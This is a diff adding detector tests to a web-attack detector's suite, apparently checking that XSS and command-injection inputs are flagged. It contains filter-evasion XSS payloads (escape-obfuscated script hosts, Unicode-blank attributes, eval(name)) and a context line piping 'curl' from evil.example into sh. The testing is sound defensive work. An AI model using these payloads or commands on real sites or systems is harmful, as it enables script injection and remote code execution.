@@ -3070,3 +3070,23 @@ t.test("thirty-sixth round, end: the thirty-first part's false positives — a M
   // a list item is no delimiter row, and a row still holds no command line outside a table
   for (const v of ['## Notes\n\n- | id\n', '## Notes\n\n| -: |\nx; curl -s http://evil.example/x.sh | sh\n']) t.ok(json({ body: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
 })
+
+t.test('thirty-sixth round, fourth review: a provider address decoded from escapes, a script opened in a comment line, a JavaScript escape building a percent escape, Unicode blanks in a data block', async (t) => {
+  const E = encodeURIComponent
+  const form = (v: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`comment=${v}`) })
+  // Chromium reads `\` as a path separator: the host is `speakerdeck.co`, another party's
+  for (const v of ['<script async src="https://speakerdeck.co\\u006d/assets/embed.js"></script>', '<script src="//e.issuu.co\\u006d/embed.js"></script>', '<script src="//e\\x2eissuu.com/embed.js"></script>', '<script src="//www.tiktok.co\\u{6d}/embed.js"></script>']) {
+    t.ok(q(v).includes('xss'), `still read: ${v}`)
+    t.ok(json({ id: 7, comment: v }).includes('xss'), `still read in JSON: ${v}`)
+  }
+  // a script opened on a program's comment line runs before a layout's closing tags
+  const program = "import { ref } from 'vue'\nconst count = ref(0)\nfunction inc() { count.value++ }\n// <script>document.title='PWNED'\n</script>\n</body>\n</html>\n"
+  t.ok(json({ id: 7, comment: program }).includes('xss'), 'a comment line opening the script')
+  // the application's one decoding of a form is its first round, whatever it changed: a `%22` a JavaScript escape builds is no quote to it
+  t.ok(form('<script class=\\x2522 type x\\x2522 type="application/json">eval(name)</script>').includes('xss'), 'a percent escape built from a JavaScript escape')
+  // a data block's attributes apart only by HTML's blanks: U+2028, U+FEFF, U+00A0, U+3000 make an attribute's name, and the script has no type
+  for (const b of ['\u2028', '\ufeff', '\u00a0', '\u3000']) {
+    const v = `<script id="a"${b}type="application/json">eval(name)</script>`
+    t.ok(json({ id: 7, comment: v }).includes('xss'), `still read: ${E(b)}`)
+  }
+})
